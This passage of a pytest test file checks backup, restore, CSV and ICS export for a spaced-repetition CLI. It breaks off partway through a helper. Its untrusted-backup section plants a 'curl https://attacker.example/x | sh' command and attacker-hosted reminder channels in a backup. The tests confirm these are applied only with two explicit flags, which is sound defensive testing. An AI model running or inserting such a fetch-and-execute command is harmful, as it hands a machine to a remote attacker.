"""Backup and portability: JSON backup and restore, the review CSV, the ICS calendar."""

from __future__ import annotations

import copy
import json
import sqlite3
from collections.abc import Callable, Iterator
from contextlib import closing
from datetime import date, datetime, timezone
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from freezegun import freeze_time
from fsrs.scheduler import DEFAULT_PARAMETERS
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

try:  # psycopg's C module must load before freezegun swaps datetime.date
    import psycopg  # noqa: F401
except ImportError:  # pragma: no cover
    pass

Run = Callable[..., Result]
RunJson = Callable[..., Any]
UTC = timezone.utc

NOW = "2026-11-30 10:00:00"

LOG = """\
# Log

| 章节 | 状态 | 日期 | 自测 |
|------|------|------|------|
| 向量 Vectors | ✅ | 2026-10-01 | ✅ 2026-10-03 |
| 矩阵 Matrices | ✅ | 2026-10-02 | ❌ 2026-10-05, 2026-10-09 hard |
| Determinants | ✅ | 2026-10-03 | |
| Determinants (2) | ✅ | 2026-10-04 | |
| Eigenvalues | ✅ | 2026-11-20 | |
"""
VECTORS, MATRICES, DETERMINANTS, DETERMINANTS_2, EIGEN, BAYES = 1, 2, 3, 4, 5, 6


@pytest.fixture(autouse=True)
def frozen_clock() -> Iterator[None]:
    with freeze_time(NOW):
        yield


@pytest.fixture
def history(run: Run, write_log: Callable[..., Path], srs_home: Path) -> Path:
    """Every kind of row: log rows and sources, grades, an undone grade, a reschedule,
    a merge, a suspended card, a card from no log, a note, stored FSRS parameters."""
    from srs.app import App
    from srs.store import PARAMETERS_KEY, store_setting

    log = write_log(LOG)
    for args in (("config", "set", "fuzz", "off"), ("import", str(log)),
                 ("grade", str(VECTORS), "good", "--note", "easy one", "--duration", "42"),
                 ("grade", str(MATRICES), "again"), ("undo",),
                 ("grade", str(MATRICES), "hard"),
                 ("set-due", str(EIGEN), "2026-12-24"),
                 ("merge", str(DETERMINANTS_2), str(DETERMINANTS)),
                 ("add", "Bayes", "--learned", "2026-11-01", "--notes", "prior"),
                 ("suspend", str(VECTORS))):
        result = run(*args)
        assert result.exit_code == 0, (args, result.output)
    app = App(f"sqlite:///{srs_home / 'data' / 'srs.db'}")
    parameters = [round(p * 1.01, 4) for p in DEFAULT_PARAMETERS]
    app.write(lambda conn: store_setting(conn, PARAMETERS_KEY, parameters))
    app.close()
    return log


def views(run_json: RunJson, *db: str) -> dict[str, Any]:
    """What a person sees of every card, `review cards --json` and each `review show --json`."""
    cards = run_json(*db, "cards")
    ids = [card["id"] for card in cards] + [DETERMINANTS_2]
    return {"cards": cards, **{str(i): run_json(*db, "show", str(i)) for i in ids}}


@pytest.fixture(params=["sqlite", "postgresql"])
def target(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """An empty database to restore into, on SQLite and on PostgreSQL."""
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'restored.db'}"
    return str(request.getfixturevalue("postgres_server").new_database())


def export_json(run: Run, *db: str) -> dict[str, Any]:
    result = run(*db, "export")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)  # type: ignore[no-any-return]


def test_restore_into_an_empty_database_gives_identical_output(
        history: Path, run: Run, run_json: RunJson, tmp_path: Path, target: str) -> None:
    backup = tmp_path / "backup.json"
    assert run("export", "-o", str(backup)).exit_code == 0
    before = views(run_json)
    result = run("--db", target, "restore", str(backup))
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith(f"restored {backup}: ")
    assert views(run_json, "--db", target) == before
    # Every row of every table came back, undone reviews and settings included.
    original, restored = export_json(run), export_json(run, "--db", target)
    assert restored["tables"] == original["tables"]
    reviews = original["tables"]["review"]
    undone = reviews["columns"].index("undone_at")
    assert sum(1 for row in reviews["rows"] if row[undone] is not None) == 1
    # New rows get fresh ids after a restore (PostgreSQL's counters were moved on).
    assert run("--db", target, "grade", str(EIGEN), "good").exit_code == 0
    assert run_json("--db", target, "show", str(EIGEN))["reviews"] == 2


def test_backup_holds_every_table_and_the_schema(history: Path, run: Run,
                                                 query: Callable[[str], Any]) -> None:
    data = export_json(run)
    tables = {name for (name,) in query(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'")}
    assert set(data["tables"]) == tables - {"alembic_version"}
    assert {"card", "review", "log_source", "log_row", "setting"} <= set(data["tables"])
    assert data["format"] == "srs-backup" and data["version"] == 1
    assert data["schema"] == query("SELECT version_num FROM alembic_version")[0][0]
    assert data["created_at"] == "2026-11-30T10:00:00+00:00"
    assert data["config"] == {"timezone": "UTC", "fuzz": False}
    settings = dict(data["tables"]["setting"]["rows"])
    assert "fsrs.parameters" in settings


# Columns that take only a few words, or JSON: what a plausible row holds there.
PLAUSIBLE = {("reminder", "kind"): "digest", ("reminder", "status"): "sent",
             ("reminder", "payload"): "{}"}


def _fill(table: Any) -> dict[str, Any]:
    """One row of plausible values, as SQLite stores them, for a table known by its columns."""
    values: dict[str, Any] = {}
    for column in table.columns:
        if column.primary_key and column.kind == "int":
            continue
        values[column.name] = PLAUSIBLE.get((table.name, column.name), {
            "text": "x", "int": 1, "float": 1.0, "bool": False,
            "moment": "2026-11-30 09:00:00.000000", "date": "2026-11-30"}[column.kind])
    return values


def sqlite_run(path: Path, sql: str, rows: list[dict[str, Any]] | None = None) -> None:
    with closing(sqlite3.connect(path)) as conn, conn:
        conn.executemany(sql, rows) if rows is not None else conn.execute(sql)


SIDE_NOTES = "CREATE TABLE side_notes (id INTEGER PRIMARY KEY, body TEXT, at DATETIME)"


def test_tables_added_later_are_backed_up_and_restored(history: Path, run: Run,
                                                      srs_home: Path, tmp_path: Path) -> None:
    """The reminder ledger (or any other table srs gains) goes into the backup.

    Every table beyond the first five gets a row; and a table only the database knows
    (as a migration newer than this code would leave) travels as well.
    """
    from srs.tables import TABLES

    known = {"card", "review", "log_source", "log_row", "setting"}
    extra = [t for t in TABLES if t.name not in known]
    source = srs_home / "data" / "srs.db"
    fresh = tmp_path / "restored.db"
    target_url = f"sqlite:///{fresh}"
    assert run("--db", target_url, "cards").exit_code == 0  # made at the schema's head
    for path in (source, fresh):
        sqlite_run(path, SIDE_NOTES)
    sqlite_run(source, "INSERT INTO side_notes (body, at) VALUES ('好', '2026-11-30 09:00:00')")
    for table in extra:
        row = _fill(table)
        sqlite_run(source, f"INSERT INTO {table.name} ({', '.join(row)}) VALUES "
                           f"({', '.join(':' + name for name in row)})", [row])
    data = export_json(run)
    assert data["tables"]["side_notes"]["rows"] == [[1, "好", "2026-11-30T09:00:00"]]
    for table in extra:
        assert len(data["tables"][table.name]["rows"]) == 1
    backup = tmp_path / "backup.json"
    backup.write_text(json.dumps(data), encoding="utf-8")
    assert run("--db", target_url, "restore", str(backup)).exit_code == 0
    assert export_json(run, "--db", target_url)["tables"] == data["tables"]


def test_restore_into_a_database_that_lacks_a_table_is_refused(
        history: Path, run: Run, tmp_path: Path) -> None:
    data = export_json(run)
    data["tables"]["from_the_future"] = {"columns": ["id"], "rows": [[1]]}
    backup = tmp_path / "backup.json"
    backup.write_text(json.dumps(data), encoding="utf-8")
    target_url = f"sqlite:///{tmp_path / 'restored.db'}"
    result = run("--db", target_url, "restore", str(backup))
    assert result.exit_code == 1
    assert result.stderr == ("Error: the backup has tables this database lacks: "
                             "from_the_future\n")
    assert export_json(run, "--db", target_url)["tables"]["card"]["rows"] == []


def test_non_empty_database_is_refused_unless_replace(history: Path, run: Run,
                                                     run_json: RunJson,
                                                     tmp_path: Path) -> None:
    backup = tmp_path / "backup.json"
    assert run("export", "-o", str(backup)).exit_code == 0
    before = views(run_json)
    assert run("grade", str(EIGEN), "easy").exit_code == 0
    changed = views(run_json)
    result = run("restore", str(backup))
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == ("Error: the database is not empty; restore into an empty "
                             "database, or add --replace to replace everything in it\n")
    assert views(run_json) == changed
    result = run("restore", str(backup), "--replace")
    assert result.exit_code == 0, result.output
    assert views(run_json) == before


def _revisions() -> str:
    from srs.schema import KNOWN_REVISIONS

    return ", ".join(KNOWN_REVISIONS)


@pytest.mark.parametrize(("content", "message"), [
    ("{not json", "Error: not an srs backup: not JSON (Expecting property name enclosed in "
                  "double quotes: line 1 column 2 (char 1))\n"),
    ("[" * 100_000, "Error: not an srs backup: not JSON (nested too deeply)\n"),
    ('{"format": "anki"}', 'Error: not an srs backup: no "format": "srs-backup"\n'),
    ('{"format": "srs-backup", "version": 9, "tables": {}}',
     "Error: backup version 9 is not 1; it was made by another version of srs\n"),
    ('{"format": "srs-backup", "version": true, "tables": {}}',
     "Error: backup version true is not 1; it was made by another version of srs\n"),
    ('{"format": "srs-backup", "version": 1, "schema": "9999", "tables": {}}',
     "Error: the backup has schema 9999, newer than this version of srs understands; "
     "upgrade srs\n"),
    ('{"format": "srs-backup", "version": 1, "tables": {}}',
     "Error: not a valid srs backup: schema: null is not a schema revision ({known})\n"),
    ('{"format": "srs-backup", "version": 1, "schema": "0001", "tables": []}',
     "Error: not a valid srs backup: tables: [] is not an object of tables\n"),
    ('{"format": "srs-backup", "version": 1, "schema": "0001", "tables": {"card": '
     '{"columns": ["id"], "rows": [[1, 2]]}}}',
     "Error: not a valid srs backup: tables.review: missing (a backup holds the tables "
     "card, review, log_source, log_row, setting)\n"),
])
def test_bad_backup_files_one_line_nothing_written(run: Run, run_json: RunJson,
                                                   tmp_path: Path, content: str,
                                                   message: str) -> None:
    backup = tmp_path / "backup.json"
    backup.write_text(content, encoding="utf-8")
    result = run("restore", str(backup))
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == message.format(known=_revisions())
    assert run_json("cards") == []


def test_an_integer_of_thousands_of_digits_is_not_json(run: Run, tmp_path: Path) -> None:
    backup = tmp_path / "backup.json"
    backup.write_text('{"format": "srs-backup", "version": 1, "x": ' + "1" * 5000 + "}",
                      encoding="utf-8")
    result = run("restore", str(backup))
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: not an srs backup: not JSON (Exceeds the limit "
                                    "(4300 digits) for integer string conversion")
    assert result.stderr.count("\n") == 1


def test_the_settings_are_applied_only_with_with_config(history: Path, run: Run,
                                                        srs_home: Path,
                                                        tmp_path: Path) -> None:
    backup = tmp_path / "backup.json"
    assert run("export", "-o", str(backup)).exit_code == 0
    config = srs_home / "config" / "config.toml"
    config.unlink()
    result = run("--db", f"sqlite:///{tmp_path / 'restored.db'}", "restore", str(backup))
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[-1] == (
        f"the backup's settings are not applied (add --with-config to write them to {config})")
    assert not config.exists()
    result = run("--db", f"sqlite:///{tmp_path / 'again.db'}", "restore", str(backup),
                 "--with-config")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[-1] == (
        f"wrote the backup's settings to {config}: timezone, fuzz")
    assert config.read_text(encoding="utf-8") == 'fuzz = false\ntimezone = "UTC"\n'


# -- a backup is untrusted input ---------------------------------------------------------------

SHELL = 'sh -c "curl -s https://attacker.example/x | sh"'


def sql_dump(path: Path) -> list[str]:
    with closing(sqlite3.connect(path)) as conn:
        return list(conn.iterdump())


def write_backup(path: Path, data: Any) -> Path:
    path.write_text(json.dumps(data), encoding="utf-8")  # ensure_ascii: \uXXXX escapes
    return path


@pytest.fixture
def backup(history: Path, run: Run) -> dict[str, Any]:
    """The backup of `history`, whose settings are fuzz off and timezone UTC."""
    return export_json(run)


def with_settings(data: dict[str, Any], **settings: Any) -> dict[str, Any]:
    """`reminders__command=` for `reminders.command`."""
    data["config"].update({name.replace("__", "."): v for name, v in settings.items()})
    return data


@pytest.mark.parametrize("channels", [["log", "command"], ["command"],
                                      ["log", "json://attacker.example/hook"],
                                      ["mailto://me:secret@attacker.example"]])
def test_a_command_in_the_backup_is_applied_only_with_both_flags(
        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path,
        channels: list[str]) -> None:
    import tomllib

    data = with_settings(backup, max_reviews_per_day=7, reminders__command=SHELL,
                         reminders__channels=channels)
    path = write_backup(tmp_path / "backup.json", data)
    config = srs_home / "config" / "config.toml"
    original = config.read_bytes()

    result = run("--db", f"sqlite:///{tmp_path / 'one.db'}", "restore", str(path))
    assert result.exit_code == 0, result.output
    assert config.read_bytes() == original
    assert "reminders" not in result.stdout

    result = run("--db", f"sqlite:///{tmp_path / 'two.db'}", "restore", str(path),
                 "--with-config")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[-2:] == [
        f"wrote the backup's settings to {config}: timezone, fuzz, max_reviews_per_day",
        "not applied from the backup: reminders.command, reminders.channels "
        "(add --with-commands)"]
    assert config.read_text(encoding="utf-8") == (
        'fuzz = false\nmax_reviews_per_day = 7\ntimezone = "UTC"\n')

    result = run("--db", f"sqlite:///{tmp_path / 'three.db'}", "restore", str(path),
                 "--with-commands")
    assert result.exit_code == 2
    assert result.stderr == ("Error: --with-commands goes with --with-config "
                             "(see 'review restore -h')\n")

    result = run("--db", f"sqlite:///{tmp_path / 'four.db'}", "restore", str(path),
                 "--with-config", "--with-commands")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[:2] == [f"reminders.command = {SHELL}",
                         f"reminders.channels = {','.join(channels)}"]
    assert lines[2].startswith("restored ")
    assert lines[3:] == [f"wrote the backup's settings to {config}: timezone, fuzz, "
                         "max_reviews_per_day, reminders.command, reminders.channels"]
    assert tomllib.loads(config.read_text(encoding="utf-8")) == {
        "fuzz": False, "max_reviews_per_day": 7, "timezone": "UTC",
        "reminders": {"command": SHELL, "channels": channels}}


def test_channels_that_run_and_send_nothing_need_no_second_flag(
        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path) -> None:
    path = write_backup(tmp_path / "backup.json",
                        with_settings(backup, reminders__channels=["log", "desktop"]))
    result = run("--db", f"sqlite:///{tmp_path / 'one.db'}", "restore", str(path),
                 "--with-config", "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert (report["config_written"], report["config_applied"],
            report["config_not_applied"]) == (
        True, ["timezone", "fuzz", "reminders.channels"], [])
    assert (srs_home / "config" / "config.toml").read_text(encoding="utf-8") == (
        'fuzz = false\ntimezone = "UTC"\n\n[reminders]\nchannels = [\n    "log",\n'
        '    "desktop",\n]\n')


def test_a_config_of_unknown_settings_writes_nothing(
        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path) -> None:
    backup["config"] = {"no.such.setting": 1, "theme": "dark"}
    path = write_backup(tmp_path / "backup.json", backup)
    config = srs_home / "config" / "config.toml"
    original = config.read_bytes()
    result = run("--db", f"sqlite:///{tmp_path / 'one.db'}", "restore", str(path),
                 "--with-config")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[1:] == [
        "not applied from the backup: no.such.setting, theme (unknown to this version of srs)"]
    assert config.read_bytes() == original


def test_a_command_whose_program_is_not_here_is_refused_before_anything_is_written(
        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path) -> None:
    path = write_backup(tmp_path / "backup.json", with_settings(
        backup, reminders__command="no-such-program-anywhere --x",
        reminders__channels=["command"]))
    config = srs_home / "config" / "config.toml"
    original = config.read_bytes()
    target = f"sqlite:///{tmp_path / 'one.db'}"
    result = run("--db", target, "restore", str(path), "--with-config", "--with-commands")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.startswith("Error: reminders.command 'no-such-program-anywhere' ")
    assert result.stderr.count("\n") == 1
    assert config.read_bytes() == original
    assert run("--db", target, "cards", "--json").stdout == "[]\n"


Change = Callable[[dict[str, Any]], None]


def cell(table: str, row: int, column: str, value: Any) -> Change:
    """A change to one value of a backup, by table, row and column."""
    def change(data: dict[str, Any]) -> None:
        stored = data["tables"][table]
        stored["rows"][row][stored["columns"].index(column)] = value
    return change


def setting(key: str, value: str) -> Change:
    """A change to the value of one row of the setting table."""
    def change(data: dict[str, Any]) -> None:
        for row in data["tables"]["setting"]["rows"]:
            if row[0] == key:
                row[1] = value
    return change


def _drop_card_table(data: dict[str, Any]) -> None:
    del data["tables"]["card"]


def _rename_column(data: dict[str, Any]) -> None:
    data["tables"]["card"]["columns"][1] = "title"


def _short_row(data: dict[str, Any]) -> None:
    data["tables"]["review"]["rows"][2].pop()


def _bad_timezone(data: dict[str, Any]) -> None:
    data["config"]["timezone"] = "Mars/Olympus"


def _surrogate_table(data: dict[str, Any]) -> None:
    data["tables"]["\udc80"] = {"columns": [], "rows": []}


def _duplicate_log_row(data: dict[str, Any]) -> None:
    rows = data["tables"]["log_row"]["rows"]
    rows[1][2] = rows[0][2]


UNTRUSTED: list[tuple[str, Change, str]] = [
    ("stability 0", cell("card", 3, "stability", 0),
     "tables.card.rows[3].stability: 0 is not a stability (a number above 0)"),
    ("stability -1", cell("card", 3, "stability", -1),
     "tables.card.rows[3].stability: -1 is not a stability (a number above 0)"),
    ("stability NaN as a string", cell("card", 3, "stability", "NaN"),
     'tables.card.rows[3].stability: "NaN" is not a stability (a number above 0)'),
    ("stability NaN", cell("card", 3, "stability", float("nan")),
     "tables.card.rows[3].stability: NaN is not a stability (a number above 0)"),
    ("stability 1e9", cell("card", 3, "stability", 1e9),
     "tables.card.rows[3].stability: 1000000000.0 is too large for a stability "
     "(at most 3650000)"),
    ("stability without difficulty", cell("card", 0, "stability", None),
     "tables.card.rows[0].stability: null, but the difficulty is set (a card has both or "
     "neither)"),
    ("state 99", cell("card", 0, "state", 99),
     "tables.card.rows[0].state: 99 is not a card state (1 learning, 2 review, 3 relearning)"),
    ("state true", cell("card", 0, "state", True),
     "tables.card.rows[0].state: true is not a card state (1 learning, 2 review, "
     "3 relearning)"),
    ("relearning without a step", cell("card", 0, "state", 3),
     "tables.card.rows[0].step: null, but a relearning card (state 3) is at a step"),
    ("step 101", cell("card", 0, "step", 101),
     "tables.card.rows[0].step: 101 is not a learning step (a whole number from 0 to 100)"),
    ("difficulty 11", cell("card", 0, "difficulty", 11),
     "tables.card.rows[0].difficulty: 11 is too large for a difficulty (at most 10)"),
    ("rating 9", cell("review", 0, "rating", 9),
     "tables.review.rows[0].rating: 9 is not a rating (1 again, 2 hard, 3 good, 4 easy)"),
    ("review kind", cell("review", 0, "kind", "exam"),
     'tables.review.rows[0].kind: "exam" is not a kind of event (review, reschedule, plan)'),
    ("review source", cell("review", 0, "source", "web"),
     'tables.review.rows[0].source: "web" is not a source (log, cli, manual)'),
    ("duration", cell("review", 8, "duration", 604_801),
     "tables.review.rows[8].duration: 604801 is not a duration (a whole number of seconds "
     "from 0 to 604800)"),
    ("parameters not JSON", setting("fsrs.parameters", "[0.2, oops"),
     'tables.setting.rows[0].value: "[0.2, oops" is not JSON text'),
    ("parameters not a list", setting("fsrs.parameters", '{"w": 1}'),
     'tables.setting.rows[0].value: {"w": 1} is not a list of 21 FSRS parameters'),
    ("parameters too few", setting("fsrs.parameters", "[1, 2, 3]"),
     "tables.setting.rows[0].value: bad FSRS parameters: Expected 21 parameters, got 3."),
    ("parameters out of bounds", setting("fsrs.parameters", json.dumps(
        [1000, *DEFAULT_PARAMETERS[1:]])),
     "tables.setting.rows[0].value: bad FSRS parameters: One or more parameters are out of "
     "bounds:; parameters[0] = 1000.0 is out of bounds: (0.001, 100.0)"),
    ("clock record", setting("schedule.clock", '"UTC"'),
     'tables.setting.rows[1].value: "UTC" is not a clock record (such as {"timezone": '
     '"UTC", "day_starts_at": 4})'),
    ("duplicate id", cell("card", 1, "id", 1),
     "tables.card.rows[1].id: 1 is already in rows[0] (id must be unique)"),
    ("duplicate log row", _duplicate_log_row,
     'tables.log_row.rows[1].key: [1, "向量 vectors|2026-10-01|0"] is already in rows[0] '
     "(source_id and key must be unique)"),
    ("dangling review.card_id", cell("review", 0, "card_id", 999),
     "tables.review.rows[0].card_id: 999 is not the id of any card in the backup"),
    ("dangling review.log_row_id", cell("review", 0, "log_row_id", 77),
     "tables.review.rows[0].log_row_id: 77 is not the id of any log_row in the backup"),
    ("merged into itself", cell("card", 3, "merged_into", 4),
     "tables.card.rows[3].merged_into: 4 is the card itself"),
    ("merged into a merged card", cell("card", 0, "merged_into", 4),
     "tables.card.rows[0].merged_into: card 4 was itself merged into card 3; a card is "
     "merged into a card that was not"),
    ("missing card table", _drop_card_table,
     "tables.card: missing (a backup holds the tables card, review, log_source, log_row, "
     "setting)"),
    ("unknown column", _rename_column,
     'tables.card.columns[1]: "title" is not a column of table card'),
    ("short row", _short_row,
     'tables.review.rows[2]: [3, 2, "2026-10-02T12:00:00+00:00", "review", 3, "log", nul… '
     "is not a row of 22 values"),
    ("naive datetime", cell("review", 0, "at", "2026-10-01T12:00:00"),
     'tables.review.rows[0].at: "2026-10-01T12:00:00" has no UTC offset (such as +00:00): '
     "the moment it means is unknown"),
    ("datetime in 2150", cell("review", 0, "at", "2150-01-01T00:00:00+00:00"),
     'tables.review.rows[0].at: "2150-01-01T00:00:00+00:00" is not between 1970 and 2100'),
    ("no such date", cell("card", 0, "learned_on", "2026-02-30"),
     'tables.card.rows[0].learned_on: "2026-02-30" is not a date (YYYY-MM-DD)'),
    ("a due moment in a backup of study days",
     cell("card", 0, "due", "2027-03-13T04:00:00+00:00"),
     'tables.card.rows[0].due: "2027-03-13T04:00:00+00:00" is not a date (YYYY-MM-DD)'),
    ("integer 2**63", cell("card", 0, "id", 2**63),
     "tables.card.rows[0].id: 9223372036854775808 is not an id (a whole number from 1 to "
     "2147483647)"),
    ("lone surrogate", cell("card", 0, "topic", "\ud800"),
     'tables.card.rows[0].topic: "\\ud800" is not valid text (it holds a lone surrogate)'),
    ("lone surrogate in a table name", _surrogate_table,
     'tables["\\udc80"]: the name of a table: "\\udc80" is not valid text (it holds a lone '
     "surrogate)"),
    ("NUL", cell("card", 0, "topic", "a\x00b"),
     'tables.card.rows[0].topic: "a\\u0000b" holds a NUL character, which no database stores'),
    ("a megabyte of notes", cell("card", 0, "notes", "x" * 1_000_001),
     'tables.card.rows[0].notes: "' + "x" * 58 + "… is too long (1000001 characters; at most "
     "1000000)"),
    ("state_before not JSON", cell("review", 8, "state_before", "{"),
     'tables.review.rows[8].state_before: "{" is not JSON text'),
    ("state_before without a step", cell("review", 8, "state_before", json.dumps({
        "state": 2, "stability": 1.0, "difficulty": 5.0, "due": "2026-10-14",
        "last_review": None})),
     "tables.review.rows[8].state_before.step: missing"),
    ("import summary", cell("log_source", 0, "summary", '{"read_again_on": "soon"}'),
     'tables.log_source.rows[0].summary.read_again_on: "soon" is not a date (YYYY-MM-DD)'),
    ("a setting", _bad_timezone,
     "config.timezone: bad value 'Mars/Olympus' for timezone: expected an IANA zone name "
     "such as Asia/Shanghai"),
]


@pytest.mark.parametrize(("change", "message"), [case[1:] for case in UNTRUSTED],
                         ids=[case[0] for case in UNTRUSTED])
def test_a_bad_value_is_named_and_nothing_is_written(
        backup: dict[str, Any], run: Run, run_json: RunJson, srs_home: Path, tmp_path: Path,
        change: Change, message: str) -> None:
    database = srs_home / "data" / "srs.db"
    config = srs_home / "config" / "config.toml"
    before, cards, kept = sql_dump(database), run_json("cards"), config.read_bytes()
    change(backup)
    path = write_backup(tmp_path / "bad.json", backup)
    result = run("restore", str(path), "--replace", "--with-config")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == f"Error: not a valid srs backup: {message}\n"
    assert sql_dump(database) == before
    assert run_json("cards") == cards
    assert config.read_bytes() == kept


@pytest.mark.parametrize(("rows", "message"), [
    ([[1, "a", "soon"]], 'not a valid srs backup: tables.side_notes.rows[0].at: "soon" does '
                         "not fit column at (DATETIME)"),
    ([[1, "a", None], [1, "b", None]], "the database refused table side_notes of the backup: "
                                       "UNIQUE constraint failed: side_notes.id"),
    ([[1, "\ud800", None]], 'not a valid srs backup: tables.side_notes.rows[0].body: "\\ud800" '
                            "is not valid text (it holds a lone surrogate)"),
])
def test_a_table_only_the_database_knows_is_checked_against_it(
        backup: dict[str, Any], run: Run, tmp_path: Path, rows: list[list[Any]],
        message: str) -> None:
    target = tmp_path / "restored.db"
    assert run("--db", f"sqlite:///{target}", "cards").exit_code == 0
    sqlite_run(target, SIDE_NOTES)
    before = sql_dump(target)
    backup["tables"]["side_notes"] = {"columns": ["id", "body", "at"], "rows": rows}
    path = write_backup(tmp_path / "bad.json", backup)
    result = run("--db", f"sqlite:///{target}", "restore", str(path))
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == f"Error: {message}\n"
    assert sql_dump(target) == before


def test_the_lone_surrogate_is_an_escape_in_the_file(backup: dict[str, Any],
                                                     tmp_path: Path) -> None:
    cell("card", 0, "topic", "\ud800")(backup)
    text = write_backup(tmp_path / "bad.json", backup).read_text(encoding="ascii")
    assert '"\\ud800"' in text


def test_a_backup_from_before_study_days_still_holds_due_moments(
        backup: dict[str, Any], run: Run, run_json: RunJson, tmp_path: Path) -> None:
    """Schema 0003 stored due moments: they become the study day they fall on."""
    backup["schema"] = "0003"
    cell("card", 4, "due", "2026-12-24T04:00:00+00:00")(backup)
    cell("review", 11, "due_set", "2026-12-24T04:00:00+00:00")(backup)
    target = f"sqlite:///{tmp_path / 'old.db'}"
    result = run("--db", target, "restore", str(write_backup(tmp_path / "old.json", backup)))
    assert result.exit_code == 0, result.output
    assert run_json("--db", target, "show", str(EIGEN))["due"] == "2026-12-24"


def test_output_file_is_written_whole_and_private(history: Path, run: Run,
                                                  tmp_path: Path) -> None:
    out = tmp_path / "backup.json"
    result = run("export", "-o", str(out))
    assert result.exit_code == 0
    assert result.stderr == f"wrote {out}\n"
    assert out.stat().st_mode & 0o777 == 0o600
    assert json.loads(out.read_text(encoding="utf-8")) == export_json(run)
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    result = run("export", "-o", str(tmp_path / "missing" / "backup.json"))
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: cannot write ")
    assert result.stderr.count("\n") == 1


# -- CSV ---------------------------------------------------------------------------------


def ms(text: str) -> int:
    return int(datetime.fromisoformat(text).replace(tzinfo=UTC).timestamp() * 1000)


def test_csv_has_one_row_per_review_in_the_revlog_layout(run: Run,
                                                        write_log: Callable[..., Path]) -> None:
    log = write_log("| Topic | Status | Date | Self-test |\n|---|---|---|---|\n"
                    "| A | done | 2026-10-01 | 2026-10-03 |\n| B | done | 2026-11-01 | |\n")
    assert run("import", str(log)).exit_code == 0
    assert run("grade", "1", "hard", "--duration", "42").exit_code == 0
    assert run("grade", "2", "again").exit_code == 0
    assert run("undo").exit_code == 0  # an undone review is not exported
    result = run("export", "--format", "csv")
    assert result.exit_code == 0
    assert result.stdout.splitlines() == [
        "card_id,review_time,review_rating,review_state,review_duration",
        f"1,{ms('2026-10-01 12:00')},3,0,0",
        f"1,{ms('2026-10-03 12:00')},3,2,0",
        f"1,{ms('2026-11-30 10:00')},2,2,42000",
        f"2,{ms('2026-11-01 12:00')},3,0,0",
    ]


# -- ICS ---------------------------------------------------------------------------------


def parse_ics(data: bytes) -> list[Any]:
    from icalendar import Calendar

    calendar = Calendar.from_ical(data)
    assert str(calendar["VERSION"]) == "2.0"
    return list(calendar.walk("VEVENT"))


def test_ics_has_one_all_day_event_per_upcoming_self_test(history: Path, run: Run,
                                                         run_json: RunJson,
                                                         tmp_path: Path) -> None:
    first = run("export", "--format", "ics")
    assert first.exit_code == 0
    events = parse_ics(first.stdout_bytes)
    cards = [c for c in run_json("cards") if not c["suspended"]]
    assert len(events) == len(cards) == 4
    uids = {str(e["UID"]) for e in events}
    assert len(uids) == 4
    ident = next(iter(uids)).split("@")[1]
    assert uids == {f"card-{c['id']}@{ident}" for c in cards}
    by_uid = {str(e["UID"]): e for e in events}
    today = date(2026, 11, 30)
    for card in cards:
        event = by_uid[f"card-{card['id']}@{ident}"]
        start = event.decoded("DTSTART")
        assert type(start) is date  # all day
        assert event.decoded("DTEND") == date.fromordinal(start.toordinal() + 1)
        assert start == max(date.fromisoformat(card["due"][:10]), today)
        assert str(event["SUMMARY"]) == f"Self-test: {card['topic']}"
    assert by_uid[f"card-{EIGEN}@{ident}"].decoded("DTSTART") == date(2026, 12, 24)
    # The same UIDs the next time, and after a restore into another database.
    assert {str(e["UID"]) for e in parse_ics(run("export", "--format", "ics").stdout_bytes)
            } == uids
    backup = tmp_path / "backup.json"
    assert run("export", "-o", str(backup)).exit_code == 0
    target = f"sqlite:///{tmp_path / 'restored.db'}"
    assert run("--db", target, "restore", str(backup)).exit_code == 0
    again = run("--db", target, "export", "--format", "ics", "-o", str(tmp_path / "x.ics"))
    assert again.exit_code == 0
    assert {str(e["UID"]) for e in parse_ics((tmp_path / "x.ics").read_bytes())} == uids


def test_ics_of_an_empty_database_is_a_valid_empty_calendar(run: Run) -> None:
    result = run("export", "--format", "ics")
    assert result.exit_code == 0
    assert parse_ics(result.stdout_bytes) == []


# -- any one value changed -----------------------------------------------------------------------

JSON_LEAVES = (st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8)
               | st.sampled_from(["\ud800", "a\x00", "NaN", "2026-11-30", "2026-11-30T10:00:00",
                                  "2026-11-30T10:00:00+00:00", "1969-12-31T23:00:00+00:00",
                                  "{}", "[]", "null", 2**31, 2**63, -1, 0, 1, 2, 3, 4, 5, 1e-300,
                                  "review", "plan", "command", "schedule.clock"]))
JSON_VALUES = st.recursive(JSON_LEAVES, lambda inner: st.lists(inner, max_size=3)
                           | st.dictionaries(st.text(max_size=4), inner, max_size=3),
                           max_leaves=6)
REFUSALS = ("Error: not a valid srs backup: ", "Error: not an srs backup: ",
            "Error: backup version ", "Error: the backup has schema ")


def like(value: Any) -> st.SearchStrategy[Any]:
    """Values of the same kind as `value`, in and a little beyond the ranges srs takes."""
    if isinstance(value, bool):
        return st.booleans()
    if isinstance(value, int):
        return st.integers(min_value=-2, max_value=2**31)
    if isinstance(value, float):
        return st.floats(min_value=-1, max_value=1e7)
